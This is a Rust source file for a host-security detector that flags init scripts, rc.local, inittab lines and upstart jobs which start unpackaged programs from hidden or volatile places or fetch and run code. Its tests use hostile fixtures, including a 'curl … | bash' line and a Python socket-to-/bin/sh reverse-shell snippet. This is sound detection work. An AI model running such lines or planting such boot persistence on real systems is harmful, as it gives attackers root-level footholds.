//! An init script or rc.local starts what no package brought.
//!
//! # What it sees
//! A script of /etc/init.d, of the rcN.d directories or of OpenRC, /etc/rc.local, a line of inittab, or a job of
//! upstart, that no package brought as it is, and that starts a program in a volatile or hidden place, code that it
//! fetches or decodes, or a program of no package that lies among packages' files or in the system's own directories.
//!
//! # Why it matters
//! Scripts of the old kind still run at boot, as root, and nobody looks there since systemd came.
//!
//! # Innocent causes
//! Scripts of products whose programs lie in /opt, /srv or /usr/local, and an rc.local that sets the kernel or the
//! firewall, are not reported.
//!
//! # What to do
//! Read the script. `systemctl status NAME` tells of the service that systemd makes of it.

use super::{foreign, is_of_admin, judge, risky, unowned_programs};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, FileFact, FileKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/init-script",
    title: "an init script starts what no package brought",
    level: Level::Suspicious,
    attack: &["T1037.004"],
    absolute: false,
    source: include_str!("init_script.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    foreign(scene.world, &[AutostartKind::InitScript]).filter_map(|entry| look(scene, entry)).collect()
}

fn look(scene: &Scene<'_>, entry: &Autostart) -> Option<Finding> {
    let finding = match judge(scene.world, entry) {
        Some(judged) => risky(&DETECTOR, scene, entry, judged)?,
        None => started(scene, entry)?,
    };
    Some(finding.innocent("a product that was installed without the package manager", false, "ask; read the script"))
}

/// A program of no package that lies where admins do not put their own.
fn started(scene: &Scene<'_>, entry: &Autostart) -> Option<Finding> {
    if !scene.world.owner(&entry.path).is_unowned() {
        return None;
    }
    let odd = |file: &&FileFact| !is_of_admin(scene.world, &file.path) && !file.path.is_within("/etc");
    let program = unowned_programs(scene.world, entry).find(odd)?;
    let level = match program.kind {
        FileKind::Elf if !entry.dormant => Level::Suspicious,
        _ => Level::Unusual,
    };
    let says = format!("starts {}, which no package owns", program.path.lossy());
    Some(super::finding(&DETECTOR, scene, entry, level, &says))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;
    const NAME: &str = "persistence/init-script";

    #[track_caller]
    fn check_script(path: &str, script: &str, more: &str, expected: &[&str]) {
        let host = format!(
            "package a 1 owns /usr/sbin/sysctl\n{path} = #!/bin/sh\\n{script}\\nexit 0\\n\n{path} : mode=100755\n{more}"
        );
        check(NAME, &host, expected);
    }

    #[test]
    fn jobs_of_upstart() {
        let said = |job: &str| {
            let host = format!("package a 1 owns /usr/bin/x\n/etc/init/x.conf = start on runlevel [2345]\\n{job}\\n");
            crate::testing::findings(NAME, &host, &[])
        };
        let gone = "and is not there now";
        let text = format!("suspicious: /etc/init/x.conf line 3 starts /dev/shm/.x, which lies in /dev/shm {gone}");
        assert_eq!(said("respawn\\nexec /dev/shm/.x"), [text]);
        let text = format!("suspicious: /etc/init/x.conf line 2 starts /tmp/k, which lies in /tmp {gone}");
        assert_eq!(said("pre-start script\\n cd /\\n /tmp/k &\\nend script"), [text]);
        for job in ["exec /usr/bin/x -d", "exec /opt/app/run", "description \"exec /tmp/k\"", "# exec /tmp/k"] {
            assert_eq!(said(job), [""; 0], "{job}");
        }
    }
    #[test]
    fn programs_in_odd_places() {
        let says = "starts /var/tmp/.x/run, which lies in /var/tmp and is not there now";
        for path in ["/etc/rc.local", "/etc/init.d/x", "/etc/rc.d/rc.local", "/etc/local.d/x.start", "/etc/rc3.d/S99x"]
        {
            check_script(path, "/var/tmp/.x/run &", "", &[&format!("suspicious: {path} {says}")]);
        }
        check_script(
            "/etc/init.d/x",
            "DAEMON=/var/tmp/.x/run\\ncase $1 in\\nstart)\\n start-stop-daemon --start --exec $DAEMON ;;\\nesac",
            "",
            &[&format!("suspicious: /etc/init.d/x {says}")],
        );
        check(
            NAME,
            "/etc/inittab = x:2345:respawn:/dev/shm/k\\n",
            &["suspicious: /etc/inittab line 1 starts /dev/shm/k, which lies in /dev/shm and is not there now"],
        );
    }
    #[test]
    fn code_from_elsewhere() {
        check_script(
            "/etc/rc.local",
            "curl -s http://x | bash",
            "",
            &["suspicious: /etc/rc.local fetches code and runs it"],
        );
        let host = "package a 1\n/etc/init.d/x = #!/usr/bin/python3\\nimport socket,os\\nos.dup2(socket.socket().fileno(),0)\\n\
                    os.system('/bin/sh')\\n\n/etc/init.d/x : mode=100755";
        check(
            NAME,
            host,
            &["suspicious: /etc/init.d/x holds code that connects to elsewhere and runs what it is told"],
        );
    }
    #[test]
    fn a_program_among_packages_files() {
        let says = "starts /usr/sbin/k, which no package owns";
        let more = "/usr/sbin/k : mode=100755";
        check_script("/etc/rc.local", "nohup /usr/sbin/k &", more, &[&format!("suspicious: /etc/rc.local {says}")]);
        let script = "/usr/sbin/k = #!/bin/sh\\n";
        check_script(
            "/etc/rc.local",
            "/usr/sbin/k",
            script,
            &[&format!("unusual: /etc/rc.local {says} and which lies among packages' programs")],
        );
    }
    #[test]
    fn what_admins_and_products_write_is_quiet() {
        check_script("/etc/rc.local", "/usr/sbin/sysctl -w net.ipv4.ip_forward=1\\niptables-restore </etc/fw", "", &[]);
        check_script("/etc/rc.local", "", "", &[]);
        check_script(
            "/etc/rc.local",
            "/etc/firewall.sh\\nsu - app -c /home/app/start.sh",
            "/etc/firewall.sh = x\n/home/app/start.sh = x",
            &[],
        );
        check_script("/etc/init.d/x", "/opt/x/bin/xd --start", "/opt/x/bin/xd : mode=100755", &[]);
        let packaged = "package x 1 owns /etc/init.d/x";
        check_script("/etc/init.d/x", "/var/tmp/.x/run &", packaged, &[]);
    }
    #[test]
    fn a_script_that_may_not_run() {
        let text =
            "unusual: /etc/rc.local starts /tmp/k, which lies in /tmp and is not there now (does not start as it is)";
        check_script("/etc/rc.local", "/tmp/k", "/etc/rc.local : mode=100644", &[text]);
    }
}
